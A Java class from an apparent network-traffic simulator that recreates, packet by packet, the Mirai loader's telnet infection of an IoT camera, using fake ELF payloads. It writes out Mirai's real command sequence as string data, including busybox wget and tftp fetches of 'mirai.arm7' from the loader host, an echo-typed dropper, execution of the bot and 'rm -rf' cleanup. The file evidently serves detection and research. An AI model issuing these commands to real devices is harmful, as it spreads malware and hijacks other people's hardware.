package io.bulwark.simulate;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.SplittableRandom;

/**
 * Mirai's loader (loader/src/server.c) infecting one device over telnet with a login its
 * scanners found. It logs in (each "\r\n" held a second by its output buffer), types
 * "enable", "shell", "sh", checks for a shell with "/bin/busybox ECCHI" (answer "ECCHI:
 * applet not found"), lists processes and /proc/mounts, probes writable directories with
 * ".nippon" files, goes to /tmp, prepares "dvrHelper" from /bin/echo, reads /bin/echo's
 * ELF header (the whole busybox binary comes back) and /proc/cpuinfo to pick the ARMv7
 * build, asks which of wget and tftp exist, then uploads by one of three methods:
 *
 * <ul>
 *   <li>{@link Method#WGET}: "/bin/busybox wget http://LOADER:80/bins/mirai.arm7 -O - > dvrHelper";
 *       the device fetches the bot over HTTP/1.1 from the loader's web server.</li>
 *   <li>{@link Method#TFTP}: "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 LOADER"; a
 *       {@link Tftp} transfer.</li>
 *   <li>{@link Method#ECHO}: the small dropper ("upnp") typed in as lines of
 *       {@code echo -ne '\x7f\x45\x4c\x46...' >> upnp}, 128 bytes a line; run, it prints
 *       "MIRAI", fetches the bot with a bare HTTP/1.0 GET, and prints "FIN".</li>
 * </ul>
 *
 * Then "./dvrHelper telnet.arm7; /bin/busybox IHCCE" starts the bot (it prints "listening
 * tun0"), the loader removes its traces and hangs up. The tap is next to the device.
 */
final class Loader {
    enum Method { WGET, TFTP, ECHO }

    /** The loader's host (with the gateway's MAC), the device, the login, how the bot gets there. */
    record Plan(Endpoint loader, Endpoint device, Mirai.Credential credential, Method method,
                long rttNanos, int loaderTtl, int botSize, int dropperSize) {
    }

    private static final long MS = Telnet.MS;
    private static final String TOKEN = Mirai.LOADER_TOKEN;
    private static final String OK = Mirai.LOADER_TOKEN_RESPONSE + "\r\n" + Telnet.PROMPT;
    private static final String PS = "  PID USER       VSZ STAT COMMAND\r\n    1 root      1508 S    init\r\n"
            + "    2 root         0 SW<  [kthreadd]\r\n    3 root         0 SW<  [ksoftirqd/0]\r\n"
            + "  412 root      1512 S    /usr/sbin/telnetd\r\n  437 root     38212 S    /mnt/mtd/app/dvrbox\r\n"
            + "  512 root      1516 S    -sh\r\n  530 root      1512 R    /bin/busybox ps\r\n";
    private static final String MOUNTS = "rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro 0 0\r\n"
            + "proc /proc proc rw 0 0\r\nsysfs /sys sysfs rw 0 0\r\ntmpfs /dev tmpfs rw 0 0\r\n"
            + "tmpfs /tmp tmpfs rw 0 0\r\ntmpfs /var tmpfs rw 0 0\r\n/dev/mtdblock3 /mnt/mtd jffs2 rw 0 0\r\n";
    private static final String CPUINFO = "Processor\t: ARMv7 Processor rev 5 (v7l)\r\nBogoMIPS\t: 1196.85\r\n"
            + "Features\t: swp half thumb fastmult vfp edsp neon vfpv3 tls vfpv4 idiva idivt\r\n"
            + "CPU implementer\t: 0x41\r\nCPU architecture: 7\r\nCPU variant\t: 0x0\r\nCPU part\t: 0xc07\r\n"
            + "Hardware\t: hi3518ev200\r\n";
    private static final String WGET_USAGE = "BusyBox v1.20.2 multi-call binary.\r\n\r\n"
            + "Usage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\r\n";
    private static final String TFTP_USAGE = "BusyBox v1.20.2 multi-call binary.\r\n\r\n"
            + "Usage: tftp [OPTIONS] HOST [PORT]\r\n";
    private static final DateTimeFormatter HTTP_DATE = DateTimeFormatter.RFC_1123_DATE_TIME.withZone(ZoneOffset.UTC);

    private final Plan plan;
    private final SplittableRandom rng;
    private final Telnet.Device device;
    private final Telnet.Timing timing;
    private final byte[] bot;
    private Dialog.End onRun;
    private long firstNanos = -1;

    Loader(Plan plan, SplittableRandom rng) {
        this.plan = plan;
        this.rng = rng;
        this.device = Telnet.randomDevice(rng);
        this.timing = new Telnet.Timing(plan.rttNanos, true, rng.split());
        this.bot = FakeElf.arm(plan.botSize, rng.nextLong());
    }

    /** Called when the device starts the bot ("./dvrHelper telnet.arm7"), at that traffic time. */
    Loader onRun(Dialog.End hook) {
        this.onRun = hook;
        return this;
    }

    /** The device being infected. */
    Endpoint device() {
        return plan.device;
    }

    /** Traffic time of the loader's SYN, or -1 before it. */
    long firstNanos() {
        return firstNanos;
    }

    void start(Sim sim, long at) {
        Dialog d = new Dialog();
        Telnet.opening(d, device, timing);
        Telnet.login(d, device, plan.credential, true, timing, 1_000 * MS + rng.nextLong(1_000 * MS));
        d.client(think(), "enable\r\n", "enable\r\n" + Telnet.notFound("enable") + Telnet.PROMPT);
        d.client(think(), "shell\r\nsh\r\n", "shell\r\n" + Telnet.notFound("shell") + Telnet.PROMPT + "sh\r\n"
                + device.shellBanner().substring(2) + Telnet.PROMPT);
        command(d, TOKEN, "");
        command(d, "/bin/busybox ps; " + TOKEN, PS);
        command(d, "/bin/busybox cat /proc/mounts; " + TOKEN, MOUNTS);
        StringBuilder probes = new StringBuilder();
        StringBuilder found = new StringBuilder();
        for (String dir : new String[] {"/dev", "/tmp", "/var", "/mnt/mtd"}) {
            probes.append("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69").append(dir).append("' > ").append(dir)
                    .append("/.nippon; /bin/busybox cat ").append(dir).append("/.nippon; /bin/busybox rm ")
                    .append(dir).append("/.nippon\r\n");
            found.append("kami").append(dir).append("\r\n");
        }
        d.client(think(), probes + TOKEN + "\r\n", probes + TOKEN + "\r\n" + found + OK);
        d.client(think(), "cd /tmp/\r\n", "cd /tmp/\r\n" + Telnet.PROMPT);
        command(d, "/bin/busybox cp /bin/echo " + Mirai.BINARY + "; >" + Mirai.BINARY + "; /bin/busybox chmod 777 "
                + Mirai.BINARY + "; " + TOKEN, "");
        // The loader learns the architecture from /bin/echo's ELF header: busybox itself scrolls past.
        byte[] busybox = FakeElf.arm(90_000 + rng.nextInt(40_000), rng.nextLong());
        d.client(think(), Payload.Bytes.of("/bin/busybox cat /bin/echo\r\n"),
                new Payload.Bytes(concat("/bin/busybox cat /bin/echo\r\n", busybox)));
        command(d, TOKEN, "");
        command(d, "cat /proc/cpuinfo; " + TOKEN, CPUINFO);
        String methods = switch (plan.method) {
            case WGET -> WGET_USAGE + "tftp: applet not found\r\n";
            case TFTP -> "wget: applet not found\r\n" + TFTP_USAGE;
            case ECHO -> "wget: applet not found\r\ntftp: applet not found\r\n";
        };
        command(d, "/bin/busybox wget; /bin/busybox tftp; " + TOKEN, methods);
        upload(d);
        d.client(think(), "rm -rf " + Mirai.DROPPER + "; > " + Mirai.BINARY + "; " + TOKEN + "\r\n",
                "rm -rf " + Mirai.DROPPER + "; > " + Mirai.BINARY + "; " + TOKEN + "\r\n" + OK);
        TcpSession.Plan p = new TcpSession.Plan(plan.loader, 32768 + rng.nextInt(28000), plan.device, Telnet.PORT,
                plan.rttNanos, 2 * MS + rng.nextLong(15 * MS), 100_000, 300_000, plan.loaderTtl, true, false,
                TcpSession.Close.CLIENT_FIN, d.script(sim, null), true);
        TcpSession session = new TcpSession(p, rng.split());
        sim.at(at, (now, s) -> {
            if (firstNanos < 0) {
                firstNanos = now;
            }
            return session.step(now, s);
        });
    }

    private void upload(Dialog d) {
        String loader = plan.loader.addr().toString();
        String run = "./" + Mirai.BINARY + " " + Mirai.ID + "; " + Mirai.LOADER_EXEC;
        String started = Mirai.EXEC_SUCCESS + "\r\n" + Mirai.LOADER_EXEC_RESPONSE + "\r\n" + Telnet.PROMPT;
        switch (plan.method) {
            case WGET -> {
                String cmd = "/bin/busybox wget http://" + loader + ":80/bins/mirai.arm7 -O - > " + Mirai.BINARY
                        + "; /bin/busybox chmod 777 " + Mirai.BINARY + "; " + TOKEN;
                long took = fetchOverHttp(d, true);
                d.client(think(), cmd + "\r\n", cmd + "\r\n");
                d.server(took, "Connecting to " + loader + ":80 (" + loader + ":80)\r\n-                    100% |"
                        + "*******************************| " + bot.length + "   0:00:00 ETA\r\n" + OK);
                d.mark(onRun);
                d.client(think(), run + "\r\n", run + "\r\n" + started);
            }
            case TFTP -> {
                String cmd = "/bin/busybox tftp -g -l " + Mirai.BINARY + " -r mirai.arm7 " + loader
                        + "; /bin/busybox chmod 777 " + Mirai.BINARY + "; " + TOKEN;
                Tftp tftp = new Tftp(plan.device, plan.loader, "mirai.arm7", bot, plan.rttNanos, plan.loaderTtl, rng.split());
                long delay = 5 * MS + rng.nextLong(10 * MS);
                d.mark((now, s) -> s.at(now + 2 * MS + delay, tftp));
                d.client(think(), cmd + "\r\n", cmd + "\r\n");
                d.server(delay + tftp.maxDurationNanos() + 5 * MS, OK);
                d.mark(onRun);
                d.client(think(), run + "\r\n", run + "\r\n" + started);
            }
            case ECHO -> {
                command(d, "/bin/busybox cp " + Mirai.BINARY + " " + Mirai.DROPPER + "; > " + Mirai.DROPPER
                        + "; /bin/busybox chmod 777 " + Mirai.DROPPER + "; " + TOKEN, "");
                byte[] dropper = FakeElf.arm(plan.dropperSize, rng.nextLong());
                for (int from = 0; from < dropper.length; from += 128) {
                    String line = "echo -ne '" + FakeElf.hexEscaped(dropper, from, Math.min(dropper.length, from + 128))
                            + "' " + (from == 0 ? ">" : ">>") + " " + Mirai.DROPPER + "; " + TOKEN;
                    command(d, line, "");
                }
                String cmd = "./" + Mirai.DROPPER + "; " + run;
                long took = fetchOverHttp(d, false);
                d.client(think(), cmd + "\r\n", cmd + "\r\nMIRAI\r\n");
                d.server(took, "FIN\r\n");
                d.mark(onRun);
                d.server(2 * MS, started);
            }
            default -> throw new AssertionError(plan.method);
        }
    }

    /**
     * Marks the dialog so that the device's download of the bot starts as the next command
     * arrives; returns how long after that command the download is surely over.
     */
    private long fetchOverHttp(Dialog d, boolean wget) {
        Endpoint loader = plan.loader;
        String get = wget
                ? "GET /bins/mirai.arm7 HTTP/1.1\r\nHost: " + loader.addr() + ":80\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n"
                : "GET /bins/mirai.arm7 HTTP/1.0\r\n\r\n";
        long delay = 3 * MS + rng.nextLong(10 * MS);
        long gap = 200_000 + rng.nextLong(400_000);
        SplittableRandom r = rng.split();
        d.mark((now, s) -> {
            long at = now + 2 * MS + delay;
            String head = "HTTP/1.1 200 OK\r\nDate: " + HTTP_DATE.format(Instant.ofEpochSecond(0, at))
                    + "\r\nServer: Apache/2.4.18 (Ubuntu)\r\nLast-Modified: Mon, 03 Oct 2016 21:14:07 GMT\r\n"
                    + "Accept-Ranges: bytes\r\nContent-Length: " + bot.length + "\r\nConnection: close\r\n"
                    + "Content-Type: application/octet-stream\r\n\r\n";
            TcpSession.Plan p = new TcpSession.Plan(plan.device, 32768 + r.nextInt(28000), loader, 80, plan.rttNanos,
                    MS, 300_000, gap, plan.loaderTtl, true, false, TcpSession.Close.SERVER_FIN,
                    new Dialog().client(200_000, Payload.Bytes.of(get), new Payload.Bytes(concat(head, bot))).script());
            s.at(at, new TcpSession(p, r.split()));
        });
        return delay + 6 * plan.rttNanos + (bot.length / 1448 + 2) * (gap + 400_000) + 50 * MS;
    }

    /** A loader command and the device's answer: the echo, the output, the token's reply. */
    private void command(Dialog d, String cmd, String output) {
        d.client(think(), cmd + "\r\n", cmd + "\r\n" + output + OK);
    }

    private long think() {
        return timing.think();
    }

    private static byte[] concat(String head, byte[] body) {
        byte[] h = head.getBytes(StandardCharsets.ISO_8859_1);
        byte[] out = java.util.Arrays.copyOf(h, h.length + body.length);
        System.arraycopy(body, 0, out, h.length, body.length);
        return out;
    }
}
